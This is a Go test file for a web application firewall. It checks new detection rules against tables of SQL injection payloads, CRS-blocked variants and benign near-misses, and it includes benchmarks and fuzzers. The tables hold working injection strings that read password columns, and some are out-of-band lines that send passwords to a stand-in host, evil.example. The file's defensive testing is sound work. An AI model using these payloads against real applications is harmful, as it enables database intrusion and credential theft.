package waf

import (
	"net/http"
	"strings"
	"testing"
	"time"
)

// oracleCallAttacks are attack 74's Oracle error-based and out-of-band
// reads of a column, with no subquery, in a string slot and in a sort
// slot (the whole value): each passed the CRS and the gateway.
var oracleCallAttacks = []string{
	"x' and 1=ordsys.ord_dicom.getmappingxpath(password,user,user)--", "x'||ordsys.ord_dicom.getmappingxpath(password,user,user)||'",
	"x' and 1=dbms_xdb_version.checkin(password)--", "x'||dbms_xdb_version.checkin(password)||'", "x'||dbms_xdb_version.makeversioned(password)||'",
	"x'||ctxsys.ctx_report.token_type(password,user)||'", "x'||sys.dbms_aw_xml.readawmetadata(password,null)||'",
	// out of band
	"x'||dbms_ldap.init(password||'.evil.example',389)||'", "x'||httpuritype('http://evil.example/'||password).getclob()||'",
	"x'||httpuritype(password||'.evil.example').getclob()||'",
	// a sort slot's whole value
	"ordsys.ord_dicom.getmappingxpath(password,user,user)", "dbms_xdb_version.checkin(password)", "ctxsys.ctx_report.token_type(password,user)",
	"name,dbms_xdb_version.checkin(password)",
	// spellings: case, comments and quoted parts, the other URI types, a
	// package the CRS does not name
	"x'||DBMS_XDB_VERSION.CHECKIN(password)||'", "x'||dbms_xdb_version.checkin/**/(password)||'", "x'||dbms_xdb_version.checkin --\n(password)||'",
	`x'||"SYS"."DBMS_AW_XML"."READAWMETADATA"(password,null)||'`, "x'||xdburitype(password).getclob()||'", "x'||dburitype(password).getclob()||'",
	"x'||dbms_xmlgen.getxml(password)||'", "x'||mdsys.sdo_util.to_gmlgeometry(password)||'",
	// public synonyms with no schema, white space around the dots
	"x'||ctx_report.token_type(password,user)||'", "x'||ord_dicom.getmappingxpath(password,user,user)||'", "x'||dbms_xdb_version . checkin(password)||'",
	"x'||sys . dbms_aw_xml . readawmetadata(password,null)||'", "x'||apex_web_service.make_rest_request('http://evil.example/'||password,'GET')||'"}

// oracleCallCRS are calls the CRS refuses already: of the packages it
// names (utl_http, utl_inaddr, dbms_pipe, ctxsys.drithsx, read by
// libinjection after the quote), or after UNION SELECT (942190); rule
// 210101 reads them now too.
var oracleCallCRS = []string{"x'||utl_http.request(password)||'", "x'||utl_inaddr.get_host_address(password)||'",
	"x'||dbms_pipe.receive_message(password,1)||'", "x'||ctxsys.drithsx.sn(user,password)||'", "utl_http.request(password)",
	"x' union select dbms_xdb_version.checkin(password) from dual--"}

// oracleCallBenign are near-misses: prose and code that name the packages
// without calling them, or call something else.
var oracleCallBenign = []string{"use DBMS_STATS to gather statistics", "the UTL_FILE package", "dbms_xdb_version.checkin is an Oracle package",
	"Run DBMS_STATS.GATHER_SCHEMA_STATS('HR') nightly", "sys.exit(1)", "import sys; sys.stdout.write(x)", "ordsys is the Multimedia schema",
	"CTXSYS owns Oracle Text", "httpuritype is a type", "see utl_http.request in the docs", "the dbms crashed", "xdb.connect(url)",
	"my_dbms_x.f(1)", "utl_ is a prefix", "ord_items.push(x)", "sdo_util is Spatial's", "the UTL_FILE package. (It writes files.)"}

// TestOraclePackageCall: rule 210101 refuses oracleCallAttacks through a
// real Caddy (in the query and in JSON), and no near-miss.
func TestOraclePackageCall(t *testing.T) {
	operatorTable(t, "210101", oracleFunction, oracleCallAttacks, oracleCallCRS, oracleCallBenign)
}

// gtidAttacks are attack 74's MySQL GTID-set reads (the error quotes the
// argument): in a string slot and after a comma of a sort list. The sort
// slot's whole value is rule 210202's (TestSortListProbe).
var gtidAttacks = []string{"x' and 1=gtid_subtract(password,1)--", "name asc, gtid_subtract(password,1)", "1 and gtid_subtract(password,'')",
	"x' or wait_for_executed_gtid_set(password)--", "x' and 1=GTID_SUBTRACT (password,1)--"}

// gtidBenign are near-misses: the names in prose.
var gtidBenign = []string{"gtid_subtract returns the GTIDs in one set and not the other", "Use GTID_SUBTRACT(set1, set2) to compare GTID sets",
	"the gtid_executed set"}

// TestErrorFunctionGTID: rule 210105 refuses gtidAttacks through a real
// Caddy, and no near-miss (gtid_subset is the CRS's 942151's).
func TestErrorFunctionGTID(t *testing.T) {
	operatorTable(t, "210105", errorFunction, gtidAttacks, []string{"x' and 1=gtid_subset(password,1)--"}, gtidBenign)
}

// sortListAttacks are attack 74's conversions in a sort slot (SQL Server
// and PostgreSQL show the value in the conversion's error), and the
// error functions of rules 210105 and 210101 as a sort slot's whole
// value.
var sortListAttacks = []string{"cast(password as int)", "1,convert(int,password)", "name desc,cast(password as int)",
	"gtid_subtract(password,1)", "st_latfromgeohash(password)", "uuid_to_bin(password)", "name asc, gtid_subtract(password,1)",
	"CAST(password AS INTEGER)", "cast(password as double precision)", "try_cast(password as int)",
	"id desc nulls last, cast(password as int)", "users.name asc, cast(users.password as int)", `"name" desc, cast("password" as int)`,
	"name,parse(password as int)", "name, try_convert(int,password)", "-cast(password as int)", "(cast(password as int))",
	"cast(password as int)--", "cast(password as uuid)", "int4(password)", "name, int8(password) desc"}

// sortListCRS are spellings the CRS refuses already (an opening bracket
// after a word and a comma or arithmetic, PostgreSQL's ::).
var sortListCRS = []string{"name, cast(password as numeric(10,2)) desc", "password::int", "name desc, password::INT", "lower(name), cast(password as int)",
	"abs(cast(password as int))", "1*cast(password as int)", "name, cast(password||'' as int)"}

// sortListBenign are near-misses: sort lists with no probe, prose with
// cast and convert, and PostgreSQL-like text that is not.
var sortListBenign = []string{"name desc, price asc", "name", "created_at desc nulls last", "Use cast(x as int) to convert",
	"cast (the actors) as int", "the cast of Dune", "cast(x as signed)", "convert(password using utf8)",
	"std::string", "Cast(Bob as King)", "price (desc)", "cast(password as int) in T-SQL shows the value", "sort by cast(price as int)",
	"1,2,3", "f(x), g(y)"}

// sortListBenignCRS are near-misses the CRS (or another rule) refuses,
// so they are not run through Caddy: the operator passes them.
var sortListBenignCRS = []string{"lower(name), id", "Types::Integer", "ActiveModel::Type::Integer", "name desc, price asc; then id"}

// TestSortListProbe: rule 210202 refuses sortListAttacks through a real
// Caddy (in the query and in JSON), and no near-miss.
func TestSortListProbe(t *testing.T) {
	for _, v := range sortListBenignCRS {
		if sortListProbe(v) {
			t.Errorf("210202 matches the benign %q", v)
		}
	}
	operatorTable(t, "210202", sortListProbe, sortListAttacks, sortListCRS, sortListBenign)
}

// openLiteralAttacks are attack 74's bit- and hex-literal tautologies
// whose last quote the query closes (every row on MariaDB and SQLite),
// and their spellings.
var openLiteralAttacks = []string{"x' or b'1'=b'1", "x' or x'41'=x'41", "x' or B'1'=B'1", "x' or X'41'=X'41", "x' and b'1'=b'1", "x'||b'1'=b'1",
	"x' or b'1'<>b'0", "x' or 0b1=b'1", "x' or 1=b'1", "x' or x'41' like x'41", "x' or not b'0'=b'1", "x' or b'1' = b'1", "x' or/**/b'1'=b'1",
	"x' or b'1", "x' or x'41", "admin' or b'1'=b'1", "x' or 2-1=b'1", "x' or id>0 or b'1", "x' or true=b'1"}

// openLiteralCRS are spellings libinjection (942100) reads: a plain or
// n” string on one side, or a bracket before.
var openLiteralCRS = []string{"x') or (b'1'=b'1", "x' or length(name)>0 and b'1", "x' or 'A'=x'41", "x' or n'A'=x'41"}

// openLiteralBenign are near-misses: prose with quotes, or, and b'/x'.
var openLiteralBenign = []string{"Rock 'n' roll or b'52", "Pick 'A' or b'52", "x'41'", "b'1'", "it's 'fine' or b", "the 'x' or x", "I'd say b'1",
	"he's 5'11"}

// TestOpenLiteralTautology: rule 210179 refuses openLiteralAttacks
// through a real Caddy, and no near-miss.
func TestOpenLiteralTautology(t *testing.T) {
	// closed, the same tautology is libinjection's, and this reading's
	// not (the literal must end the value)
	for _, v := range []string{"x' or b'1'=b'1'--", "x' or x'41'=x'41' or '", "x' or b'1' or so"} {
		if openLiteralTautology(newSQLReader(v)) {
			t.Errorf("210179's open literal reads %q", v)
		}
	}
	operatorTable(t, "210179", tautologySuffix, openLiteralAttacks, openLiteralCRS, openLiteralBenign)
}

// TestCPUBoundAttack74: repetitions of the new readers' shapes through a
// real Caddy cost what any value of their size does.
func TestCPUBoundAttack74(t *testing.T) {
	tableOnly(t)
	base, _ := startCaddy(t, "waf")
	margin := time.Duration(cpuMargin)
	for _, unit := range []string{"dbms_x.f", "'||dbms_x.f(", "sys.", "\"a\".", "cast(", "cast(a as int),", "(", "a,", "f(", "a::int::", "x||",
		"' or b'1'=", "' or ", "' or (", "')", "0", "b'1", "' or b'1'=b'1", "' or 1 or b'1", "' or 1+1+1+1+1+1+1=b'1", "' or /*x*/ b'1", "' or (((1)))=x'41",
		"'--\nor 1 or b'1", "' or f(1,2) or x'4"} {
		body := repeatedJSON(unit)
		req, _ := http.NewRequest("POST", base+"/api/items", strings.NewReader(body))
		req.Header.Set("Content-Type", "application/json")
		readUnder(t, req, unit+" over and over, JSON", margin*urlsBound)
	}
}

// BenchmarkAttack74: the new readers on 16 KiB of their shapes.
func BenchmarkAttack74(b *testing.B) {
	for _, unit := range []string{"dbms_x.f", "'||dbms_x.f(", "cast(a as int),", "(", "f(", "' or b'1'=", "' or (", "0", "' or 1+1+1+1+1+1+1=b'1", "' or 1 or b'1", "dbms_x . "} {
		v := strings.Repeat(unit, 16384/len(unit))
		b.Run(strings.TrimSpace(unit), func(b *testing.B) {
			for b.Loop() {
				oraclePackageCall(v)
				sortListProbe(v)
				tautologySuffix(v)
			}
		})
	}
}

// FuzzSortListProbe: any value is read without a panic.
func FuzzSortListProbe(f *testing.F) {
	for _, v := range concat(sortListAttacks, sortListBenign) {
		f.Add(v)
	}
	f.Fuzz(func(t *testing.T, v string) { sortListProbe(v) })
}

// FuzzOraclePackageCall: any value is read without a panic.
func FuzzOraclePackageCall(f *testing.F) {
	for _, v := range concat(oracleCallAttacks, oracleCallBenign) {
		f.Add(v)
	}
	f.Fuzz(func(t *testing.T, v string) { oraclePackageCall(v) })
}

// FuzzOpenLiteralTautology: any value is read without a panic.
func FuzzOpenLiteralTautology(f *testing.F) {
	for _, v := range concat(openLiteralAttacks, openLiteralBenign) {
		f.Add(v)
	}
	f.Fuzz(func(t *testing.T, v string) { openLiteralTautology(newSQLReader(v)) })
}
